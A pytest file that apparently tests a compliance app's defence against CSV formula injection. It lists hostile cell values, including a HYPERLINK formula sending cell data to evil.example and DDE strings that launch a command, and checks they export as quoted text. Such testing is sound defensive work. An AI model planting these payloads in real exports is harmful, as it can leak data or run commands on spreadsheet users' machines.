"""CSV formula injection: a cell a spreadsheet would run (=, +, -, @, tab, carriage return at
its start) is exported as text, through the one helper every CSV writer uses."""
import csv
import io
import subprocess

import pytest

from accounts.operations import create_user
from compliance.csv_export import safe_cell, safe_writer
from tests.conftest import PASSWORD, ROOT, login

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_leading_cells_become_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["DH2026-0001", "王伟", "", "a=b", "1-2", " =x", None, 42,
                                   -3])
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) == value


def test_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    writer = safe_writer(out)
    writer.writerow(["ok", "=1+1"])
    writer.writerows([["@x", "-y"], ["+z", "fine"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["ok", "'=1+1"], ["'@x", "'-y"], ["'+z", "fine"]]


def test_compliance_csv_exports_a_hostile_loan_number_and_user_name_as_text(app, new_loan,
                                                                           users):
    loan = new_loan(loan_no="=1+2")
    evil = "=HYPERLINK(\"http://evil.example\",\"x\")"
    create_user(evil, PASSWORD, ["compliance"])
    client = app.test_client()
    assert login(client, evil).status_code == 302
    response = client.get("/compliance/search.csv", headers={"Accept-Language": "en"})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    users_column, loans_column = header.index("User"), header.index("Loan")
    assert "'" + evil in [row[users_column] for row in body]
    assert "'=1+2" in [row[loans_column] for row in body if row[loans_column]]
    assert loan.loan_no == "=1+2"  # stored as entered; only the export escapes it
    for row in body:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


def test_every_csv_writer_in_the_application_uses_the_helper():
    """A new CSV export must go through compliance.csv_export.safe_writer."""
    found = subprocess.run(
        ["grep", "-rlE", r"csv\.(writer|DictWriter)\(", "--include=*.py", "--exclude-dir=.venv",
         "--exclude-dir=node_modules", "--exclude-dir=tests", "."],
        cwd=ROOT, capture_output=True, text=True).stdout.split()
    writers = sorted(p for p in found if p != "./compliance/csv_export.py")
    assert writers == [], f"CSV written without compliance.csv_export.safe_writer: {writers}"
